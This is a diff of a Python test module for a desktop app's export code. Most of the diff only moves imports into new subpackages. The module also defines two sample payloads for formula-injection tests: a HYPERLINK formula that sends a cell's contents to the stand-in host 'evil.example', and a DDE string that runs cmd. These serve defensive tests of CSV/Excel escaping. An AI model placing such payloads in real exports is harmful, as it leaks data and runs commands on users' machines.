@@ -14,22 +14,22 @@ import openpyxl
 import pytest
 from tests.strategy_sample import build_sample, edit_sample
 
-from jpoa_desktop.io.coverage_export import CoverageWords, write_coverage
-from jpoa_desktop.io.strategy_diff_export import (
+from jpoa_desktop.io.writing.coverage_export import CoverageWords, write_coverage
+from jpoa_desktop.io.writing.strategy_diff_export import (
     DiffEntry,
     DiffReport,
     DiffSection,
     FieldRow,
     write_diff,
 )
-from jpoa_desktop.io.strategy_xlsx import write_xlsx
+from jpoa_desktop.io.writing.strategy_xlsx import write_xlsx
+from jpoa_desktop.model.strategies import Coverage, CoverageCell, Gap, PillarTotal
 from jpoa_desktop.services.database import Database
-from jpoa_desktop.services.participant_export import ParticipantExportService
-from jpoa_desktop.services.participant_import import ParticipantImportService
-from jpoa_desktop.services.people import PeopleService, PersonInput
-from jpoa_desktop.services.strategies import StrategyService
-from jpoa_desktop.services.strategy_coverage import Coverage, CoverageCell, Gap, PillarTotal
-from jpoa_desktop.services.workshops import WorkshopInput, WorkshopService
+from jpoa_desktop.services.people.participant_export import ParticipantExportService
+from jpoa_desktop.services.people.participant_import import ParticipantImportService
+from jpoa_desktop.services.people.people import PeopleService, PersonInput
+from jpoa_desktop.services.strategies.strategies import StrategyService
+from jpoa_desktop.services.workshops.workshops import WorkshopInput, WorkshopService
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 DDE = "-2+3+cmd|' /C calc'!A0"
@@ -100,7 +100,7 @@ def test_participant_csv_export_puts_a_quote_before_formula_like_text(
 
 
 def test_a_csv_keeps_plain_numbers_and_attendance_marks_as_they_are(tmp_path: Path) -> None:
-    from jpoa_desktop.io.export import write_table
+    from jpoa_desktop.io.writing.export import write_table
 
     target = tmp_path / "t.csv"
     write_table(target, ["a", "b", "c", "d", "e"], [["-5", -5, "+", "-1500.25", "-"]])
@@ -190,7 +190,7 @@ def test_the_version_comparison_csv_puts_a_quote_before_formula_like_text(
 def test_control_characters_left_in_old_data_do_not_stop_an_excel_export(
     tmp_path: Path,
 ) -> None:
-    from jpoa_desktop.io.export import write_table
+    from jpoa_desktop.io.writing.export import write_table
 
     target = tmp_path / "t.xlsx"
     write_table(target, ["Name"], [["Ива\x01нов\x1b"]])
